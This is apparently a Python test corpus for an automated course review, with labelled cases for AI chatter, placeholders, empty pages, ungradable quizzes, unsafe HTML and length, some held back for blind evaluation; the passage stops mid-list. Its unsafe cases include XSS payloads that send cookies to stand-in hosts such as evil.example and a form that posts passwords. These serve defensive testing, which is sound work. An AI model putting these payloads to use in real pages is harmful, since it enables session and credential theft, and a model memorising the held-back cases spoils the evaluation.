"""The review corpus: labelled courses, each one base course plus a defect or a tricky-but-fine page.

`expect` names the defect categories the review must block for (empty, ungradable, unsafe,
chatter, placeholder, length); an empty `expect` means the course must pass (warnings are
fine). Cases marked `held_back` were written in a separate pass and the rules were not tuned
on them; accuracy on them is reported separately (bench/review_accuracy.py). Held-back A was
run once, then two rule bugs it showed were fixed (the figures before the fix are in the
commit message); held-back B was written after that and run once, then its misses fixed too; held-back C was
written after the length rule moved onto the shared learner-time reader and run once, then its
misses fixed; D likewise; held-back E was written after the rules were frozen for the session
and run once (prose recall 9/18), then the prose checks were made general (assistant voice,
placeholder shapes) and E's misses fixed by those. Held-back F (review_cases_f.py) was written
before the general rules ran on it and run once: it is the part the rules have never been tuned on.
G (review_cases_g.py, bases in review_bases_g.py) was written blind, by someone who read neither
the rules nor earlier cases, on new subjects too, and run once; its misses are listed there. The rules
were then generalised on its classes of misses, each tuned first on new cases of its own
(review_cases_requester.py and the tuned placeholder cases), so G now counts as tuned.
Held-back H (review_cases_h.py, bases in review_bases_h.py) is a second blind batch, in Italian and
Dutch too, run once and kept from whoever generalises the prose checks after G.
Held-back I (review_cases_i.py, bases in review_bases_i.py and review_bases_i_intl.py) is a third
blind batch, in Polish and Swedish too, run once to measure the review after two rounds of rule work.
"""

from __future__ import annotations

from corpus.review_bases import BASES, mcq
from corpus.review_cases_drafts import DRAFT_CASES
from corpus.review_cases_f import HELD_BACK_F
from corpus.review_cases_g import HELD_BACK_G
from corpus.review_cases_gaps import GAP_CASES
from corpus.review_cases_h import HELD_BACK_H
from corpus.review_cases_i import HELD_BACK_I
from corpus.review_cases_replies import REPLY_CASES
from corpus.review_cases_requester import REQUESTER_CASES
from corpus.review_model import Case, Page, Unit, html, p, raw

__all__ = ["CASES", "Case", "Page"]


def defect(name: str, base: str, expect: str, *units: Unit, held: bool = False, **kw) -> Case:
    return Case(name, BASES[base], tuple(units), frozenset(expect.split()), held_back=held, **kw)


def fine(name: str, base: str, *units: Unit, held: bool = False, kind: str = "tricky", **kw) -> Case:
    return Case(name, BASES[base], tuple(units), frozenset(), held_back=held, kind=kind, **kw)


MCQ_OK = mcq("Which is correct?", ["This one", "Not this one"], 0)

# ---------------------------------------------------------------------------------------------
# Tuned part: the rules were developed against these.
# ---------------------------------------------------------------------------------------------
TUNED: list[Case] = [
    # clean courses, as their authors wrote them
    *(fine(f"clean_{key}", key, kind="clean") for key in BASES),
    # chatter, English
    defect(
        "chatter_curly_heres",
        "excel_hr",
        "chatter",
        html(
            "Sorting",
            p("Here’s the lesson on sorting and filtering your invoice log.")
            + p("Select the header row, then choose Sort."),
        ),
    ),
    defect(
        "chatter_straight_heres",
        "python_bootcamp",
        "chatter",
        html(
            "Loops",
            p("Here's the lesson you asked for on for-loops:")
            + p("A for-loop repeats a block once per item."),
        ),
    ),
    defect(
        "chatter_great_question",
        "history_school",
        "chatter",
        html(
            "Child labour",
            p(
                "Great question! Children worked in mills because their small hands could reach under the machines."
            ),
        ),
    ),
    defect(
        "chatter_knowledge_update",
        "ai_literacy",
        "chatter",
        html(
            "Which tools",
            p(
                "As of my last knowledge update, the most widely used assistants were offered by three companies."
            ),
        ),
    ),
    defect(
        "chatter_as_an_ai",
        "leadership",
        "chatter",
        html(
            "Difficult talks",
            p(
                "As an AI language model, I don't have personal experience of difficult conversations, but here are some tips."
            ),
        ),
    ),
    defect(
        "chatter_hope_helps",
        "safety_onboarding",
        "chatter",
        html(
            "PPE",
            p("Wear gloves, boots and a hi-vis vest on the floor at all times.")
            + p("I hope this helps! Let me know if you'd like me to add a quiz."),
        ),
    ),
    defect(
        "chatter_certainly",
        "ux_writing",
        "chatter",
        html(
            "Empty states",
            p("Certainly! Here is a revised lesson on empty states.")
            + p("An empty state tells people what will appear and how to start."),
        ),
    ),
    defect(
        "chatter_would_you_like",
        "excel_hr",
        "chatter",
        html(
            "Charts",
            p("Select the months and the totals, then insert a clustered bar chart.")
            + p("Would you like me to create a practice exercise for this chart?"),
        ),
    ),
    defect(
        "chatter_title",
        "python_bootcamp",
        "chatter",
        html(
            "Sure! Here is the unit on dictionaries",
            p("A dictionary maps keys to values: <code>ages = {'Ana': 31}</code>."),
        ),
    ),
    defect(
        "chatter_in_problem",
        "history_school",
        "chatter",
        Unit(
            "Quiz: cities",
            (
                Page(
                    mcq("Great question! Why did Manchester grow so fast?", ["Cotton mills", "Gold mines"], 0)
                ),
            ),
        ),
    ),
    defect(
        "chatter_markdown_fence",
        "python_bootcamp",
        "chatter",
        html("Functions", p("```html") + p("A function is defined with def and a name.")),
    ),
    # chatter, other languages
    defect(
        "chatter_es_claro",
        "es_excel",
        "chatter",
        html(
            "Filtros",
            p("¡Claro! Aquí tienes la lección sobre filtros en Excel.")
            + p("Selecciona la fila de encabezados y pulsa Filtro."),
        ),
    ),
    defect(
        "chatter_es_como_ia",
        "es_historia",
        "chatter",
        html(
            "Las reformas",
            p(
                "Como modelo de lenguaje, no tengo opiniones políticas, pero puedo resumir las reformas del primer bienio."
            ),
        ),
    ),
    defect(
        "chatter_fr_bien_sur",
        "fr_securite",
        "chatter",
        html(
            "Les mises à jour",
            p("Bien sûr ! Voici la leçon sur les mises à jour.")
            + p("Installez les mises à jour dès qu'elles sont proposées."),
        ),
    ),
    defect(
        "chatter_fr_tant_que",
        "fr_fle",
        "chatter",
        html("Au marché", p("En tant qu'IA, je ne fais pas de courses, mais voici un dialogue au marché.")),
    ),
    defect(
        "chatter_de_ki",
        "de_kunden",
        "chatter",
        html(
            "Beschwerden",
            p("Als KI-Sprachmodell… kann ich keine echten Telefonate führen. Hier sind trotzdem Tipps."),
        ),
    ),
    defect(
        "chatter_de_gerne",
        "de_physik",
        "chatter",
        html(
            "Spannung",
            p("Gerne! Hier ist die Lektion zur Spannung.") + p("Die Spannung wird in Volt gemessen."),
        ),
    ),
    defect(
        "chatter_pt_claro",
        "pt_vendas",
        "chatter",
        html(
            "Objeções",
            p("Claro! Aqui está a aula sobre objeções.") + p("Ouça a objeção até o fim antes de responder."),
        ),
    ),
    defect(
        "chatter_pt_otima",
        "pt_matematica",
        "chatter",
        html("Comparar frações", p("Ótima pergunta! Para comparar frações, use o mesmo denominador.")),
    ),
    # placeholders
    defect(
        "placeholder_todo",
        "python_bootcamp",
        "placeholder",
        html(
            "Dictionaries",
            p("TODO: write the introduction to dictionaries.") + p("A dictionary maps keys to values."),
        ),
    ),
    defect(
        "placeholder_mustache",
        "leadership",
        "placeholder",
        html("Welcome", p("Welcome, {{learner_name}}! This programme helps you lead your first team.")),
    ),
    defect(
        "placeholder_company",
        "safety_onboarding",
        "placeholder",
        html("Reporting", p("At [Company Name], every near miss is reported within 24 hours.")),
    ),
    defect(
        "placeholder_tbd",
        "history_school",
        "placeholder",
        html("Field trip", p("Our visit to the mill museum is on TBD. Bring a packed lunch.")),
    ),
    defect(
        "placeholder_coming_soon",
        "excel_hr",
        "placeholder",
        html("Conditional formatting", p("Content coming soon.")),
    ),
    defect(
        "placeholder_lorem",
        "leadership",
        "placeholder",
        html(
            "Meetings", p("Lorem ipsum dolor sit amet, consectetur adipiscing elit. Sed do eiusmod tempor.")
        ),
    ),
    defect(
        "placeholder_insert_here",
        "ux_writing",
        "placeholder",
        html(
            "Tone", p("A tone guide keeps the product sounding like one voice.") + p("Insert example here.")
        ),
    ),
    defect(
        "placeholder_title",
        "excel_hr",
        "placeholder",
        html("[Insert title]", p("Use Ctrl+Shift+L to switch the filters on and off.")),
    ),
    defect(
        "placeholder_es", "es_excel", "placeholder", html("Gráficos", p("Contenido disponible próximamente."))
    ),
    defect(
        "placeholder_fr",
        "fr_fle",
        "placeholder",
        html("Au téléphone", p("Contenu à venir.") + p("(à compléter)")),
    ),
    defect("placeholder_de", "de_kunden", "placeholder", html("Abschluss", p("Inhalt folgt in Kürze."))),
    defect("placeholder_pt", "pt_vendas", "placeholder", html("Fechamento", p("Conteúdo em breve."))),
    defect(
        "placeholder_bracket_name",
        "pt_matematica",
        "placeholder",
        html("Boas-vindas", p("Olá, [nome do aluno]! Nesta sequência vamos trabalhar com frações.")),
    ),
    # empty
    defect("empty_unit_no_components", "excel_hr", "empty", Unit("Freeze panes")),
    defect(
        "empty_img_no_alt",
        "ux_writing",
        "empty",
        html("Mock-up review", '<p><img src="/static/mockup.png" alt=""></p>'),
    ),
    defect("empty_nbsp", "history_school", "empty", html("Railways", "<p>&nbsp;</p><p> </p>")),
    defect(
        "empty_video_no_url",
        "safety_onboarding",
        "empty",
        Unit("Forklift zones", (Page(video="", title="Forklift zones"),)),
    ),
    defect(
        "empty_only_comment", "de_physik", "empty", html("Widerstand", "<!-- Text kommt noch --><div></div>")
    ),
    # ungradable (as a platform generated them)
    defect(
        "ungradable_no_correct",
        "excel_hr",
        "ungradable",
        raw(
            "Quiz: formulas",
            '<problem><multiplechoiceresponse><p>Which formula adds?</p><choicegroup type="MultipleChoice"><choice correct="false">=SUM()</choice><choice correct="false">=IF()</choice></choicegroup></multiplechoiceresponse></problem>',
        ),
    ),
    defect(
        "ungradable_no_response",
        "history_school",
        "ungradable",
        raw("Quiz: reform", "<problem><p>Name one factory act.</p></problem>"),
    ),
    defect(
        "ungradable_customresponse_no_check",
        "python_bootcamp",
        "ungradable",
        raw(
            "Check: functions",
            '<problem><customresponse><p>Write a function that doubles a number.</p><textbox rows="6"/></customresponse></problem>',
        ),
    ),
    defect(
        "ungradable_numerical_variable",
        "pt_matematica",
        "ungradable",
        raw(
            "Problema: soma",
            '<problem><numericalresponse answer="$soma"><p>Quanto é 1/4 + 1/2?</p><formulaequationinput/></numericalresponse></problem>',
        ),
    ),
    # unsafe (as a platform generated them)
    defect(
        "unsafe_script",
        "excel_hr",
        "unsafe",
        raw(
            "Shortcuts",
            p("Press Ctrl+C to copy.")
            + "<script>document.location='https://evil.example/'+document.cookie</script>",
        ),
    ),
    defect(
        "unsafe_onerror",
        "ux_writing",
        "unsafe",
        raw("Icons", '<p>Icons need labels.</p><img src="x.png" alt="icon" onerror="alert(1)">'),
    ),
    defect(
        "unsafe_js_link",
        "leadership",
        "unsafe",
        raw("Resources", '<p>Download the <a href="javascript:stealSession()">agenda template</a>.</p>'),
    ),
    defect(
        "unsafe_iframe",
        "ai_literacy",
        "unsafe",
        raw("Demo", '<p>Watch the demo.</p><iframe src="https://tracker.example.net/embed/123"></iframe>'),
    ),
    # length
    defect("length_five_times_evenings", "leadership", "length", size=85),
    defect("length_five_times_lunch", "safety_onboarding", "length", size=17),
    defect("length_far_too_short", "python_bootcamp", "length", size=3),
    defect("length_es_tardes", "es_excel", "length", size=80),
    defect("length_fr_pause", "fr_securite", "length", size=18),
    # tricky but fine
    fine(
        "fine_aid_to_memory",
        "history_school",
        html("Remembering dates", p("Use a rhyme as an aid to memory: 1769, Watt's engine was fine.")),
    ),
    fine(
        "fine_ai_model_in_code",
        "ai_literacy",
        html(
            "Boilerplate replies",
            p("Assistants often open with a disclaimer. Recognise it:")
            + "<pre>As an AI language model, I cannot give legal advice.</pre>"
            + p("When you see it, rephrase your question."),
        ),
    ),
    fine(
        "fine_lorem_cicero",
        "ux_writing",
        html(
            "Where lorem ipsum comes from",
            p(
                "Lorem ipsum is scrambled Latin from Cicero's De finibus. Designers use it as placeholder text in mock-ups so that the copy does not distract from the layout."
            ),
        ),
    ),
    fine(
        "fine_feel_free_mentor",
        "excel_hr",
        html(
            "Getting help",
            p("Stuck on a formula? Feel free to ask your mentor, or post in the team channel."),
        ),
    ),
    fine(
        "fine_quoted_reply_blockquote",
        "ai_literacy",
        html(
            "Reading a reply",
            p("Here is a real reply we received from an assistant:")
            + "<blockquote>Great question! As of my last knowledge update, the policy allowed 25 days of leave.</blockquote>"
            + p("Notice it cannot know the current policy."),
        ),
    ),
    fine(
        "fine_spanish_todo",
        "es_excel",
        html(
            "Formato", p("Todo el equipo usa el mismo formato de fecha. Aplica el formato a todo el rango.")
        ),
    ),
    fine(
        "fine_jinja_code",
        "python_bootcamp",
        html(
            "Templates",
            p("Jinja fills in values between double braces:")
            + "<pre><code>Hello {{ name }}, you have {{ count }} new messages.</code></pre>",
        ),
    ),
    fine(
        "fine_img_with_alt_only",
        "history_school",
        html(
            "The mill in 1835",
            '<p><img src="/static/mill.png" alt="Engraving of a cotton mill with three chimneys, 1835"></p>',
        ),
    ),
    fine(
        "fine_youtube_only",
        "safety_onboarding",
        html(
            "Watch: safe lifting",
            '<iframe src="https://www.youtube.com/embed/abc123" width="560" height="315"></iframe>',
        ),
    ),
    fine(
        "fine_todo_in_starter_code",
        "python_bootcamp",
        html(
            "Starter code",
            p("Complete the function in the starter file:")
            + "<pre><code>def total(rows):\n    # TODO: add up the amount column\n    pass</code></pre>",
        ),
    ),
    fine(
        "fine_fr_phrases_a_completer",
        "fr_fle",
        html("Exercice : le passé composé", p("Phrases à compléter : « Hier, je ___ (aller) au marché. »")),
    ),
    fine(
        "fine_to_be_determined_by",
        "leadership",
        html(
            "Priorities",
            p("The order of work is to be determined by the team in the stand-up, not by you alone."),
        ),
    ),
    fine(
        "fine_good_question_habit",
        "leadership",
        html(
            "Asking questions",
            p("A good question to open a one-to-one is: what is taking most of your energy this week?"),
        ),
    ),
    fine(
        "fine_pt_em_breve",
        "pt_vendas",
        html("Simulação", p("Em breve, você vai conduzir uma reunião de descoberta completa com um colega.")),
    ),
    fine(
        "fine_de_folgt",
        "de_physik",
        html(
            "Reihenschaltung",
            p("Die Stromstärke folgt einer einfachen Regel: in der Reihenschaltung ist sie überall gleich."),
        ),
    ),
    fine("fine_three_lessons_length", "history_school", kind="tricky", size=12),
    fine(
        "fine_unreadable_time",
        "excel_hr",
        audience_override="New finance hires, new to spreadsheets. They study whenever the month-end close allows.",
        expect_warnings=frozenset({"length_unchecked"}),
    ),
    fine(
        "fine_template_quoted_brackets",
        "leadership",
        html(
            "Writing the invite",
            p("Use this invitation and adapt it:")
            + "<blockquote>Hi [Name], let's meet on [Date] to talk about your goals.</blockquote>",
        ),
    ),
    fine(
        "fine_tbd_quoted",
        "excel_hr",
        html("Open items", p('In the tracker, mark a missing due date as "TBD" and chase it the same week.')),
    ),
    fine(
        "fine_es_proximamente",
        "es_historia",
        html(
            "El bienio reformista",
            p("Próximamente veremos cómo reaccionaron los propietarios a la reforma agraria."),
        ),
    ),
    # chatter addressed to whoever ordered the course (tuned after held-back G's first sight)
    *REQUESTER_CASES,
    # placeholders without slot syntax (tuned after held-back G's first sight)
    *DRAFT_CASES,
    # the draft as correspondence; dialogue turns (tuned after H was read)
    *REPLY_CASES,
    # gaps without slot syntax; slots taught; captions beside their image (tuned after H was read)
    *GAP_CASES,
]

# ---------------------------------------------------------------------------------------------
# Held-back part: written separately; never used to tune the rules.
# ---------------------------------------------------------------------------------------------
HELD_BACK: list[Case] = [
    # chatter
    defect(
        "hb_chatter_sure_heres",
        "excel_hr",
        "chatter",
        html(
            "VLOOKUP",
            p("Sure, here's a lesson on VLOOKUP:")
            + p("VLOOKUP finds a value in the first column of a table."),
        ),
        held=True,
    ),
    defect(
        "hb_chatter_happy_to_help",
        "leadership",
        "chatter",
        html(
            "Delegation",
            p(
                "I'd be happy to help you understand delegation. Delegating means handing over the outcome, not only the task."
            ),
        ),
        held=True,
    ),
    defect(
        "hb_chatter_large_lm",
        "ai_literacy",
        "chatter",
        html("Limits", p("As a large language model, I cannot guarantee that every fact below is current.")),
        held=True,
    ),
    defect(
        "hb_chatter_drafted",
        "history_school",
        "chatter",
        html(
            "The Factory Acts",
            p("I've drafted the lesson below, keeping the reading level for Year 9.")
            + p("The 1833 Factory Act banned children under nine from textile mills."),
        ),
        held=True,
    ),
    defect(
        "hb_chatter_hope_helps_end",
        "python_bootcamp",
        "chatter",
        html(
            "Sorting lists",
            p("Use <code>sorted(rows, key=...)</code> to sort by a column.") + p("Hope this helps!"),
        ),
        held=True,
    ),
    defect(
        "hb_chatter_absolutely",
        "ux_writing",
        "chatter",
        html(
            "Button labels",
            p("Absolutely! Here's the updated unit on button labels.") + p("Use verbs: Save, Send, Delete."),
        ),
        held=True,
    ),
    defect(
        "hb_chatter_below_html",
        "safety_onboarding",
        "chatter",
        html(
            "Near misses",
            p("Below is the HTML for the unit on near misses.")
            + p("A near miss is an event that could have hurt someone."),
        ),
        held=True,
    ),
    defect(
        "hb_chatter_if_youd_like",
        "excel_hr",
        "chatter",
        html(
            "Printing",
            p("Set the print area before printing the log.")
            + p("If you'd like, I can add a quiz at the end."),
        ),
        held=True,
    ),
    defect(
        "hb_chatter_adjustments",
        "leadership",
        "chatter",
        html(
            "Stand-ups",
            p("Keep the stand-up to fifteen minutes.")
            + p("Let me know if you need any adjustments to this lesson."),
        ),
        held=True,
    ),
    defect(
        "hb_chatter_realtime",
        "ai_literacy",
        "chatter",
        html(
            "Current events",
            p("I don't have access to real-time information, so check today's figures yourself."),
        ),
        held=True,
    ),
    defect(
        "hb_chatter_upper_curly",
        "python_bootcamp",
        "chatter",
        html(
            "Modules",
            p("HERE’S THE LESSON ON IMPORTING MODULES.") + p("<code>import csv</code> loads the csv module."),
        ),
        held=True,
    ),
    defect(
        "hb_chatter_es_por_supuesto",
        "es_excel",
        "chatter",
        html(
            "Formato condicional",
            p("¡Por supuesto! Aquí tienes el contenido de la unidad sobre formato condicional."),
        ),
        held=True,
    ),
    defect(
        "hb_chatter_es_espero",
        "es_historia",
        "chatter",
        html(
            "La crisis de 1934",
            p("La revolución de octubre de 1934 marcó el bienio.")
            + p("Espero que esto te sirva para preparar el examen."),
        ),
        held=True,
    ),
    defect(
        "hb_chatter_es_soy",
        "es_excel",
        "chatter",
        html("Atajos", p("Soy un modelo de lenguaje y no uso Excel, pero estos son los atajos más útiles.")),
        held=True,
    ),
    defect(
        "hb_chatter_fr_excellente",
        "fr_securite",
        "chatter",
        html(
            "Le Wi-Fi public",
            p("Excellente question ! Sur un Wi-Fi public, utilisez toujours le VPN de l'entreprise."),
        ),
        held=True,
    ),
    defect(
        "hb_chatter_fr_jespere",
        "fr_fle",
        "chatter",
        html(
            "Ma journée", p("Racontez votre journée au passé composé.") + p("J'espère que cela vous aide !")
        ),
        held=True,
    ),
    defect(
        "hb_chatter_fr_votre_lecon",
        "fr_securite",
        "chatter",
        html(
            "Les sauvegardes", p("Voici votre leçon sur les sauvegardes, rédigée pour des non-spécialistes.")
        ),
        held=True,
    ),
    defect(
        "hb_chatter_de_ich_bin",
        "de_kunden",
        "chatter",
        html(
            "Aktives Zuhören",
            p("Ich bin ein KI-Sprachmodell und habe keine Kunden, aber aktives Zuhören funktioniert so."),
        ),
        held=True,
    ),
    defect(
        "hb_chatter_de_natuerlich",
        "de_physik",
        "chatter",
        html(
            "Ohmsches Gesetz",
            p("Natürlich! Hier ist deine Lerneinheit zum ohmschen Gesetz.") + p("U = R · I"),
        ),
        held=True,
    ),
    defect(
        "hb_chatter_de_hoffe",
        "de_kunden",
        "chatter",
        html(
            "Rückruf",
            p("Sagen Sie einen Rückruf nur zu, wenn Sie ihn einhalten können.") + p("Ich hoffe, das hilft!"),
        ),
        held=True,
    ),
    defect(
        "hb_chatter_pt_como_ia",
        "pt_vendas",
        "chatter",
        html(
            "Descoberta",
            p("Como uma IA, não participo de reuniões, mas posso explicar a descoberta de necessidades."),
        ),
        held=True,
    ),
    defect(
        "hb_chatter_pt_espero",
        "pt_matematica",
        "chatter",
        html("Somar frações", p("Para somar, iguale os denominadores.") + p("Espero que isso ajude!")),
        held=True,
    ),
    defect(
        "hb_chatter_pt_com_certeza",
        "pt_vendas",
        "chatter",
        html("Próximo passo", p("Com certeza! Segue a lição sobre como propor o próximo passo.")),
        held=True,
    ),
    # placeholders
    defect(
        "hb_placeholder_fixme",
        "python_bootcamp",
        "placeholder",
        html(
            "CSV files",
            p("FIXME add the airline example.")
            + p("<code>csv.DictReader</code> reads each row as a dictionary."),
        ),
        held=True,
    ),
    defect(
        "hb_placeholder_logo",
        "safety_onboarding",
        "placeholder",
        html("Welcome", p("[Insert company logo]") + p("Welcome to the warehouse team.")),
        held=True,
    ),
    defect(
        "hb_placeholder_jinja_dotted",
        "leadership",
        "placeholder",
        html("Programme dates", p("The programme starts on {{ course.start_date }} with a kick-off call.")),
        held=True,
    ),
    defect(
        "hb_placeholder_dollar",
        "excel_hr",
        "placeholder",
        html(
            "Your buddy",
            p("Your spreadsheet buddy is ${buddy_name}; book thirty minutes with them this week."),
        ),
        held=True,
    ),
    defect(
        "hb_placeholder_to_be_confirmed",
        "history_school",
        "placeholder",
        html("Assessment", p("Assessment details to be confirmed.")),
        held=True,
    ),
    defect(
        "hb_placeholder_under_construction",
        "ux_writing",
        "placeholder",
        html("Voice and tone", p("This section is under construction.")),
        held=True,
    ),
    defect(
        "hb_placeholder_tba_speaker",
        "leadership",
        "placeholder",
        html("Guest session", p("Guest speaker: TBA. The session covers leading former peers.")),
        held=True,
    ),
    defect(
        "hb_placeholder_screenshot",
        "excel_hr",
        "placeholder",
        html(
            "Data validation",
            p("Choose Data, then Validation.") + p("[Add screenshot of the validation dialog]"),
        ),
        held=True,
    ),
    defect(
        "hb_placeholder_es_lorem",
        "es_historia",
        "placeholder",
        html("La Constitución de 1931", p("Lorem ipsum dolor sit amet, consectetur adipiscing elit.")),
        held=True,
    ),
    defect(
        "hb_placeholder_es_empresa",
        "es_excel",
        "placeholder",
        html("Bienvenida", p("Bienvenido al curso de Excel de [Nombre de la empresa].")),
        held=True,
    ),
    defect(
        "hb_placeholder_es_pendiente",
        "es_historia",
        "placeholder",
        html("El Frente Popular", p("Pendiente de redactar.")),
        held=True,
    ),
    defect(
        "hb_placeholder_fr_texte",
        "fr_fle",
        "placeholder",
        html("Prendre rendez-vous", p("Texte à venir.")),
        held=True,
    ),
    defect(
        "hb_placeholder_de_firma",
        "de_kunden",
        "placeholder",
        html("Willkommen", p("Willkommen bei [Firmenname]! In dieser Schulung geht es um Telefonate.")),
        held=True,
    ),
    defect(
        "hb_placeholder_de_ergaenzt",
        "de_physik",
        "placeholder",
        html("Sicherheitsregeln", p("Dieser Abschnitt wird noch ergänzt.")),
        held=True,
    ),
    defect(
        "hb_placeholder_pt_construcao",
        "pt_matematica",
        "placeholder",
        html("Subtrair frações", p("Seção em construção.")),
        held=True,
    ),
    defect(
        "hb_placeholder_pt_todo_upper",
        "pt_vendas",
        "placeholder",
        html("Roteiro", p("TODO: roteiro da simulação.")),
        held=True,
    ),
    # empty
    defect("hb_empty_br_only", "excel_hr", "empty", html("Named ranges", "<div><br/></div>"), held=True),
    defect(
        "hb_empty_spacer",
        "history_school",
        "empty",
        html("Canals", "<p><img src='/static/spacer.gif' alt=''></p><p>&#160;</p>"),
        held=True,
    ),
    defect("hb_empty_ellipsis", "fr_securite", "empty", html("Le RGPD", "<p>…</p>"), held=True),
    defect(
        "hb_empty_heading_only", "pt_matematica", "empty", html("Equivalência", "<h3></h3><p></p>"), held=True
    ),
    defect(
        "hb_empty_component_beside",
        "python_bootcamp",
        "empty",
        Unit(
            "While loops",
            (
                Page(p("A while loop repeats while its condition is true.")),
                Page(video="", title="While loops video"),
            ),
        ),
        held=True,
    ),
    defect("hb_empty_no_components", "es_historia", "empty", Unit("Las elecciones de 1933"), held=True),
    # ungradable, as platforms generated them
    defect(
        "hb_ungradable_choicetext",
        "excel_hr",
        "ungradable",
        raw(
            "Check: totals",
            '<problem><choicetextresponse><radiotextgroup><choice correct="false">The total is <decoy_input/></choice><choice correct="false">None of these</choice></radiotextgroup></choicetextresponse></problem>',
        ),
        held=True,
    ),
    defect(
        "hb_ungradable_image_no_region",
        "history_school",
        "ungradable",
        raw(
            "Find the chimney",
            '<problem><imageresponse><p>Click the engine house.</p><imageinput src="/static/mill.png" width="600" height="400"/></imageresponse></problem>',
        ),
        held=True,
    ),
    defect(
        "hb_ungradable_code_no_grader",
        "python_bootcamp",
        "ungradable",
        raw(
            "Submit: totals",
            '<problem><coderesponse queuename="python"><p>Submit your total() function.</p><textbox rows="10" mode="python"/></coderesponse></problem>',
        ),
        held=True,
    ),
    defect(
        "hb_ungradable_answer_todo",
        "ux_writing",
        "ungradable",
        raw(
            "Quiz: labels",
            '<problem><stringresponse answer="TODO"><p>Which verb fits a button that sends a form?</p><textline/></stringresponse></problem>',
        ),
        held=True,
    ),
    defect(
        "hb_ungradable_blank_choice",
        "de_physik",
        "ungradable",
        raw(
            "Test: Einheiten",
            '<problem><multiplechoiceresponse><p>In welcher Einheit misst man Spannung?</p><choicegroup type="MultipleChoice"><choice correct="true"></choice><choice correct="false">Ampere</choice></choicegroup></multiplechoiceresponse></problem>',
        ),
        held=True,
    ),
    defect(
        "hb_ungradable_malformed",
        "es_excel",
        "ungradable",
        raw(
            "Prueba: fórmulas",
            '<problem><multiplechoiceresponse><p>¿Qué fórmula suma?<choicegroup><choice correct="true">=SUMA()</choice></multiplechoiceresponse></problem>',
        ),
        held=True,
    ),
    defect(
        "hb_ungradable_checkbox_none",
        "safety_onboarding",
        "ungradable",
        raw(
            "Quiz: PPE",
            '<problem><choiceresponse><p>Which items are PPE?</p><checkboxgroup><choice correct="false">Gloves</choice><choice correct="false">Boots</choice></checkboxgroup></choiceresponse></problem>',
        ),
        held=True,
    ),
    # unsafe, as platforms generated them
    defect(
        "hb_unsafe_mixed_case_js",
        "excel_hr",
        "unsafe",
        raw("Templates", '<p>Get the <a href="JaVaScRiPt:alert(document.domain)">template</a>.</p>'),
        held=True,
    ),
    defect(
        "hb_unsafe_svg_onload",
        "ux_writing",
        "unsafe",
        raw(
            "Icons",
            '<p>Our icon set:</p><svg onload="fetch(\'https://x.example/\'+document.cookie)"><circle r="4"/></svg>',
        ),
        held=True,
    ),
    defect(
        "hb_unsafe_form",
        "fr_securite",
        "unsafe",
        raw(
            "Signaler",
            '<p>Signalez ici :</p><form action="https://collect.example/"><input name="password"></form>',
        ),
        held=True,
    ),
    defect(
        "hb_unsafe_http_iframe",
        "safety_onboarding",
        "unsafe",
        raw(
            "Video", '<iframe src="http://www.youtube.com/embed/abc"></iframe><p>Watch before your shift.</p>'
        ),
        held=True,
    ),
    defect(
        "hb_unsafe_object",
        "de_kunden",
        "unsafe",
        raw("Audio", '<p>Hören Sie das Gespräch:</p><object data="https://cdn.example/player.swf"></object>'),
        held=True,
    ),
    # length
    defect(
        "hb_length_one_evening",
        "leadership",
        "length",
        held=True,
        audience_override="Newly promoted leads. One evening a week for ten weeks.",
        size=100,
    ),
    defect(
        "hb_length_minutes_a_day",
        "ai_literacy",
        "length",
        held=True,
        audience_override="Office staff, no technical background. 20 minutes a day for two weeks.",
        size=17,
    ),
    defect(
        "hb_length_workshop",
        "ux_writing",
        "length",
        held=True,
        audience_override="Product designers. This is a 90-minute workshop at the design summit.",
        size=10,
    ),
    defect(
        "hb_length_es_hora",
        "es_excel",
        "length",
        held=True,
        audience_override="Administrativos sin experiencia. Una hora a la semana durante dos meses.",
        size=45,
    ),
    defect(
        "hb_length_fr_short",
        "fr_fle",
        "length",
        held=True,
        audience_override="Adultes de niveau A1. Deux heures par semaine pendant trois mois.",
        size=5,
    ),
    defect(
        "hb_length_de_mittagspause",
        "de_kunden",
        "length",
        held=True,
        audience_override="Neue Mitarbeitende. Eine Mittagspause pro Woche, acht Wochen lang.",
        size=30,
    ),
    defect(
        "hb_length_pt_por_dia",
        "pt_vendas",
        "length",
        held=True,
        audience_override="Vendedores iniciantes. Uma hora por dia durante duas semanas.",
        size=50,
    ),
    defect(
        "hb_length_total_hours",
        "python_bootcamp",
        "length",
        held=True,
        audience_override="Career changers, no programming. 12 hours in total.",
        size=60,
    ),
    # tricky but fine
    fine(
        "hb_fine_aide_memoire",
        "history_school",
        html(
            "Mnemonics",
            p("A timeline on your wall works as an aide-memoire; so does using a rhyme as an aid to memory."),
        ),
        held=True,
    ),
    fine(
        "hb_fine_q_element",
        "ai_literacy",
        html(
            "Refusals",
            p(
                "Sometimes the assistant answers <q>As an AI, I cannot help with that.</q> Reword the request with context."
            ),
        ),
        held=True,
    ),
    fine(
        "hb_fine_pt_todo",
        "pt_matematica",
        html("Revisão", p("Revise todo o material da semana antes da avaliação.")),
        held=True,
    ),
    fine(
        "hb_fine_es_lorem_topic",
        "es_excel",
        html(
            "Texto de relleno",
            p(
                "El lorem ipsum es un texto de relleno que se usa en plantillas. Sustitúyelo siempre antes de enviar un informe."
            ),
        ),
        held=True,
    ),
    fine(
        "hb_fine_de_blindtext",
        "de_kunden",
        html(
            "Vorlagen",
            p(
                "Der Blindtext „Lorem ipsum“ zeigt nur, wo später Text stehen wird. In Kundenbriefen darf er nie stehen bleiben."
            ),
        ),
        held=True,
    ),
    fine(
        "hb_fine_great_question_of",
        "history_school",
        html(
            "Why Britain?",
            p("That is the great question of the period: why did industry take off in Britain first?"),
        ),
        held=True,
    ),
    fine(
        "hb_fine_would_you_like_to",
        "excel_hr",
        html("Undo", p("Made a mistake? Would you like to undo it? Press Ctrl+Z.")),
        held=True,
    ),
    fine(
        "hb_fine_certainly_mid",
        "python_bootcamp",
        html(
            "Indentation",
            p(
                "Indentation is certainly the most common beginner error. Here is the rule: four spaces per level."
            ),
        ),
        held=True,
    ),
    fine(
        "hb_fine_fr_voici_plan",
        "fr_securite",
        html(
            "Plan de la séance", p("Voici le plan de la séance : mots de passe, puis hameçonnage, puis quiz.")
        ),
        held=True,
    ),
    fine(
        "hb_fine_de_gerne",
        "de_kunden",
        html(
            "Abschlussformeln", p("Gerne können Sie den Kunden zum Schluss fragen, ob noch etwas offen ist.")
        ),
        held=True,
    ),
    fine(
        "hb_fine_pt_claro_que_sim",
        "pt_vendas",
        html("Respostas curtas", p("Evite responder apenas “claro que sim”: explique o motivo ao cliente.")),
        held=True,
    ),
    fine(
        "hb_fine_feel_free_forum",
        "ux_writing",
        html(
